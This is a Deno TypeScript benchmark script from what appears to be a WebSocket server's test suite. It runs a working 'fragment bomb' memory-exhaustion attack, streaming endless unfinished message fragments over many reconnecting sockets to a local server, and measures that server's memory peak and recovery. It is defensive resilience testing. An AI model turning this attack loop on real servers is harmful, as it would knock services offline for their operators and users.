/**
 * The fragment bomb of issue 13 item 1, as a measurement: `sockets` connections that never
 * register, each streaming one endless text message as 16 KiB fragments (FIN never set), for
 * `seconds`; a socket the server cuts reconnects and starts again. Samples the server's RSS from
 * `/proc/<pid>/status` every 250 ms, then stops the attack (closing every socket) and samples for
 * `recoverSeconds` more. Prints one JSON line: baseline, peak, at the end of the attack, after
 * recovery, the seconds until RSS came back within 16 MiB of the baseline (or null), and how
 * often the server cut a socket.
 *
 * Usage: `deno run -A bench/transport/fragment_attack.ts '{"port":8081,"path":"/websocket",
 * "pid":123}'` (optional `sockets` 30, `seconds` 8, `recoverSeconds` 15, `fragmentBytes` 16384).
 *
 * @module
 */
import { memory } from "../proc_stats.ts";

/** Options of {@link fragmentAttack}. */
export interface AttackOptions {
  port: number;
  path: string;
  /** Server process to sample. */
  pid: number;
  /** @default 30 */
  sockets?: number;
  /** @default 8 */
  seconds?: number;
  /** @default 15 */
  recoverSeconds?: number;
  /** @default 16384 */
  fragmentBytes?: number;
}

/** What {@link fragmentAttack} measured (MiB and seconds). */
export interface AttackResult {
  baselineMiB: number;
  peakMiB: number;
  endOfAttackMiB: number;
  afterRecoveryMiB: number;
  /** Seconds after the attack stopped until RSS was within 16 MiB of the baseline. */
  recoveredAfterS: number | null;
  /** Sockets the server cut during the attack (each reconnected). */
  cuts: number;
  /** Fragment bytes the attack got written. */
  sentMiB: number;
}

const encoder = new TextEncoder();
const MiB = 1024 * 1024;

function frame(opcode: number, fin: boolean, payload: Uint8Array): Uint8Array {
  const n = payload.length;
  const head = n < 126 ? 2 : n < 65536 ? 4 : 10;
  const out = new Uint8Array(head + 4 + n);
  out[0] = (fin ? 0x80 : 0) | opcode;
  if (n < 126) out[1] = 0x80 | n;
  else if (n < 65536) {
    out[1] = 0x80 | 126;
    out[2] = n >> 8;
    out[3] = n & 255;
  } else {
    out[1] = 0x80 | 127;
    new DataView(out.buffer).setBigUint64(2, BigInt(n));
  }
  // Mask key 0: the payload goes as is.
  out.set(payload, head + 4);
  return out;
}

async function handshake(port: number, path: string): Promise<Deno.TcpConn> {
  const conn = await Deno.connect({ hostname: "127.0.0.1", port });
  await conn.write(encoder.encode(
    `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\n` +
      `Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n` +
      `Sec-WebSocket-Version: 13\r\n\r\n`,
  ));
  const buf = new Uint8Array(4096);
  let text = "";
  while (!text.includes("\r\n\r\n")) {
    const n = await conn.read(buf);
    if (n === null) throw new Error("Handshake failed: connection closed");
    text += new TextDecoder().decode(buf.subarray(0, n));
  }
  if (!text.startsWith("HTTP/1.1 101")) {
    conn.close();
    throw new Error(`Handshake failed: ${text.split("\r\n")[0]}`);
  }
  return conn;
}

/** Runs the attack against a server on 127.0.0.1. */
export async function fragmentAttack(options: AttackOptions): Promise<AttackResult> {
  const sockets = options.sockets ?? 30;
  const seconds = options.seconds ?? 8;
  const recoverSeconds = options.recoverSeconds ?? 15;
  const fragment = new Uint8Array(options.fragmentBytes ?? 16384).fill(0x61);
  const first = frame(0x1, false, fragment);
  const next = frame(0x0, false, fragment);
  const rss = () => memory(options.pid).rss / MiB;
  const baseline = rss();
  let peak = baseline;
  let cuts = 0;
  let sent = 0;
  let running = true;
  const open = new Set<Deno.TcpConn>();
  const sampler = setInterval(() => peak = Math.max(peak, rss()), 250);
  const attacker = async () => {
    while (running) {
      let conn: Deno.TcpConn;
      try {
        conn = await handshake(options.port, options.path);
      } catch {
        await new Promise((r) => setTimeout(r, 50));
        continue;
      }
      open.add(conn);
      // Drain what the server sends (a close frame) so its writes never block.
      (async () => {
        const sink = new Uint8Array(4096);
        try {
          while (await conn.read(sink) !== null) { /* discard */ }
        } catch { /* closed */ }
      })();
      try {
        await conn.write(first);
        sent += first.length;
        while (running) {
          await conn.write(next);
          sent += next.length;
        }
      } catch {
        if (running) cuts++;
      }
      open.delete(conn);
      try {
        conn.close();
      } catch { /* already closed */ }
    }
  };
  const all = Array.from({ length: sockets }, attacker);
  await new Promise((r) => setTimeout(r, seconds * 1000));
  const endOfAttack = rss();
  running = false;
  for (const conn of open) {
    try {
      conn.close();
    } catch { /* already closed */ }
  }
  await Promise.all(all);
  let recoveredAfter: number | null = null;
  const stopped = performance.now();
  while (performance.now() - stopped < recoverSeconds * 1000) {
    const now = rss();
    peak = Math.max(peak, now);
    if (recoveredAfter === null && now <= baseline + 16) {
      recoveredAfter = (performance.now() - stopped) / 1000;
    }
    await new Promise((r) => setTimeout(r, 250));
  }
  clearInterval(sampler);
  const round = (x: number) => Math.round(x * 10) / 10;
  return {
    baselineMiB: round(baseline),
    peakMiB: round(peak),
    endOfAttackMiB: round(endOfAttack),
    afterRecoveryMiB: round(rss()),
    recoveredAfterS: recoveredAfter === null ? null : round(recoveredAfter),
    cuts,
    sentMiB: round(sent / MiB),
  };
}

if (import.meta.main) {
  console.log(JSON.stringify(await fragmentAttack(JSON.parse(Deno.args[0]))));
}
